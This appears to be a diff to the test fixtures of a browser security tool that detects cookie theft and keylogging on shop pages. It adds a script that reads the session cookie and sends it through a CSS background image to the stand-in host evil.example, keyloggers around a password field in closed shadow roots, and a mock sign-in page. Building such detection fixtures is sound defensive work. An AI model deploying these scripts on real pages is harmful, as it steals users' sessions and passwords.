@@ -483,6 +483,24 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * Reads the cookie, reads it again after the shop renewed its session (the same code, a new value), waits
+   * for another renewal, then sends the second value.
+   */
+  'reread-renewed': `(async () => {
+  const wait = async (flag) => { while (!window[flag]) await new Promise((resolve) => setTimeout(resolve, 50)); };
+  document.cookie;
+  window.__firstRead = true;
+  await wait('__renewedOnce');
+  const c = document.cookie;
+  window.__tokenRead = true;
+  await wait('__renewed');
+  const box = document.createElement('div');
+  box.style.backgroundImage = 'url("https://evil.example/r3-css.gif?c=' + encodeURIComponent(c) + '")';
+  box.textContent = '.';
+  document.body.appendChild(box);
+})();`,
+
+  /**
    * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
    * document DOMParser made, media, a CSS background whose URL holds the cookie in base64, a frame's `src`
    * and a prefetch link. Only the network timeline sees these, and only the cookie in the URL tells them from
@@ -984,6 +1002,24 @@ export const MAIN_WORLD_SCRIPTS = {
   attach();
 })();`,
 
+  /**
+   * Keyloggers around sign-in fields in closed shadow roots (CLOSED_LOGIN), which the page — this helper
+   * too — cannot look into: on the password field's host, on the document, on the window.
+   */
+  'closed-shadow-keyloggers': `(() => {
+  const keys = [];
+  const log = (event) => keys.push(event.key || event.data);
+  const attach = () => {
+    const host = document.querySelector('shop-password-field');
+    if (!host || !window.__closedLoginReady) return void setTimeout(attach, 20);
+    host.addEventListener('keydown', log);
+    document.onkeypress = log;
+    window.addEventListener('input', log);
+    window.__closedLoggers = true;
+  };
+  attach();
+})();`,
+
   /** Benign: a chat widget from its own host, listening for keys in its own box only (no secret field inside). */
   'chat-widget': `(() => {
   const box = document.createElement('div');
@@ -1244,6 +1280,25 @@ export const SHADOW_LOGIN = {
     root.innerHTML = '<form><div class="fields"><input name="login" aria-label="Login"><input type="password" name="password" aria-label="Password"></div></form>';
   }
 });`,
+};
+
+/**
+ * The shop's sign-in fields as web components with closed shadow roots, each field filling its host (a test
+ * focuses one by clicking its host: no selector reaches inside). The shop's own input listener in each root
+ * tidies what is typed.
+ */
+export const CLOSED_LOGIN = {
+  page: `<!doctype html><html lang="kk"><head><meta charset="utf-8"><style>shop-login-field, shop-password-field { display: block; width: 300px; height: 40px; margin: 8px; }</style></head><body><h1>Кіру</h1><shop-login-field></shop-login-field><shop-password-field></shop-password-field><script src="/assets/closed-sign-in.js"></script></body></html>`,
+  script: `for (const [name, field] of [['shop-login-field', '<input name="login" aria-label="Login">'], ['shop-password-field', '<form><div class="fields"><input type="password" name="password" aria-label="Password"></div></form>']]) {
+  customElements.define(name, class extends HTMLElement {
+    connectedCallback() {
+      const root = this.attachShadow({ mode: 'closed' });
+      root.innerHTML = '<style>input { box-sizing: border-box; width: 100%; height: 40px; }</style>' + field;
+      root.addEventListener('input', () => root.querySelector('input').classList.toggle('filled', root.querySelector('input').value !== ''));
+    }
+  });
+}
+window.__closedLoginReady = true;`,
 };
 
 export const BENIGN = {
